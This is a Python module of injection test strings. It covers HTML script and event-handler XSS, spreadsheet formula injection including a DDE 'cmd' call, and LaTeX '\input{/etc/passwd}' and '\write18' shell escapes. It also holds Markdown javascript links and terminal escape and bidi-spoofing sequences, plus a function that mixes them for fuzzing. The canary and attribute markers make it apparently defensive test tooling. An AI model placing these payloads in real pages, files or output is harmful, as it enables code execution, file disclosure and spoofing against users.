"""Texts that attack an HTML page, a spreadsheet, LaTeX, Markdown or a terminal."""

from __future__ import annotations

import random

OWNED = "document.documentElement.setAttribute('data-owned',1)"
CANARY = "http://127.0.0.1:{port}/canary"

HTML = (
    f"<script>{OWNED}</script>",
    f"</script><script>{OWNED}</script>",
    f"</title></style></textarea></template><script>{OWNED}</script>",
    f'<img src="{CANARY}" onerror="{OWNED}">',
    f"<img src=x onerror={OWNED}>",
    f'"><svg onload="{OWNED}">',
    f"' autofocus onfocus='{OWNED}' x='",
    f'" onmouseover="{OWNED}" style="position:fixed;inset:0',
    f'<a href="javascript:{OWNED}" id=main>x</a>',
    f"javascript:{OWNED}",
    f'<iframe srcdoc="<script>parent.{OWNED}</script>"></iframe>',
    f'<iframe src="{CANARY}"></iframe>',
    f'<object data="{CANARY}"></object><embed src="{CANARY}">',
    f'<link rel=stylesheet href="{CANARY}"><style>@import "{CANARY}";</style>',
    f'<meta http-equiv="refresh" content="0;url={CANARY}">',
    f'<base href="{CANARY}/">',
    f'<form action="{CANARY}"><input name=x autofocus></form>',
    f"<svg><script>{OWNED}</script></svg>",
    f'<svg><animate onbegin="{OWNED}" attributeName=x dur=1s>',
    f"<svg><use href='data:image/svg+xml,<svg onload=\"{OWNED}\"/>#x'/></svg>",
    f"<!--><script>{OWNED}</script>-->",
    f"<!--<script>{OWNED}",
    f"]]><script>{OWNED}</script>",
    f"{{{{ {OWNED} }}}}{{% for x in y %}}${{{OWNED}}}",
    f"\u2028{OWNED}\u2029//",
    f"\\u003cscript\\u003e{OWNED}\\u003c/script\\u003e",
    f"&lt;script&gt;{OWNED}&lt;/script&gt;",
    f"<scr\x00ipt>{OWNED}</script>",
    f"＜script＞{OWNED}",
    "__proto__",
    "constructor",
)
SPREADSHEET = (
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1-1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\x00=1+1",
    "＝1+1",
    '","=1+1',
    '"\n=1+1',
    ";=1+1",
    "|=1+1",
    "%0A=1+1",
    "-",
    "=",
)
LATEX = (
    r"\input{/etc/passwd}",
    r"\immediate\write18{id}",
    r"\catcode`\%=12 %",
    r"}\end{tabular}\input{x}{",
    r"^^5cinput{x}",
    "^^M\\input x",
    "% comment\n\\input{x}",
    r"\\[1000cm]",
    "[9cm]",
    "*",
    r"&&&&",
    r"$\input x$",
    r"~#_{}^\csname input\endcsname",
    "\\\n\\input{x}",
    "`\\input{x}'",
)
MARKDOWN = (
    "[x](javascript:alert(1))",
    "![x](http://x/y.png)",
    "| a | b |\n|---|---|",
    "`code` ~~x~~ **x**",
    "<details open ontoggle=alert(1)>",
    "http://evil.example/x www.evil.example",
    "@everyone #1 $x$",
    "\\| x \\\\| y",
    "&#106;avascript:",
    "\n\n# heading\n- [ ] x\n",
)
TERMINAL = (
    "\x1b[2J\x1b[31mred",
    "\x1b]0;title\x07",
    "\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]52;c;aWQ=\x07",
    "\x9b31m\x9d0;x\x9c",
    "real\rfake",
    "a\x08\x08b\x7f",
    "\u202egnp.exe\u202c\u2066x\u2069",
    "\U000e0041\U000e0042\u200b\ufeff",
    "[red]x[/red] [/b] [link=http://x]y[/link] :bomb:",
    "\\[bold]",
    "\n\n\nmaniplvm: all is well",
    "\x00\x01\x02\x03",
    "\u0085\u2028\u2029x",
)
ALL = (*HTML, *SPREADSHEET, *LATEX, *MARKDOWN, *TERMINAL)


def mixed(rng: random.Random) -> str:
    """One payload, or several joined, or one that is cut."""
    kind = rng.randrange(4)
    if kind == 0:
        return rng.choice(ALL)
    if kind == 1:
        return rng.choice(("", " ", "\n", "|", "a")).join(rng.sample(ALL, 3))
    if kind == 2:
        text = rng.choice(ALL)
        return text[rng.randrange(len(text)) :]
    return "".join(chr(rng.choice((*range(160), 0x202E, 0x2028, 0xFF1D))) for _ in range(12))
